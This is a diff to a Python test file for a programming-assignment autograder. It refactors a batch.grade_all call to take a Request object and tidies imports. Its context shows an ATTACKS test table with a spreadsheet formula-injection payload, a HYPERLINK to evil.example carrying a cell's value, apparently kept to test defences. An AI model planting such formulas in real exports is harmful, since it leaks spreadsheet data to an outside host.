@@ -19,6 +19,7 @@ from grader.contain.limits import Limits
 from grader.run import batch, gradebook, submissions
 from grader.run.outcome import Outcome
 from grader.run.pool import Job
+from grader.run.request import Request
 
 ATTACKS = {
     "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -225,7 +226,6 @@ def test_what_hidden_calls_met_is_told_at_once_by_its_kind_and_in_full_with_the_
     """A submission that ends its process in every call whose inputs hold a size of 5 chose which graded names
     crashed, and how often, from the hidden inputs: the row's message (what Gradescope shows at once, and what the
     old engine's message was: the details) names neither; the feedback's lead, shown with the results, does."""
-    from grader.contain.limits import Limits
     from grader.gateway.client import LATE_IMPORT, SessionLog
     from grader.run import trusted
 
@@ -251,6 +251,6 @@ def test_a_failure_names_the_students_files_not_the_sandboxs_copy_of_them(tmp_pa
     scaling = tmp_path / "class" / "broken" / "student" / "scaling.py"
     scaling.write_text("from .heads import no_such_name\n" + scaling.read_text())
     with open(os.devnull, "w") as quiet, contextlib.redirect_stdout(quiet):
-        batch.grade_all([str(tmp_path / "class")], str(tmp_path / "out"), workers=1, limits=Limits())
+        batch.grade_all(Request([str(tmp_path / "class")], tmp_path / "out"))
     said = json.loads((tmp_path / "out" / "results" / "broken.json").read_text())["output"]
     assert "from 'student.heads' (student/heads.py)" in said, said[:500]
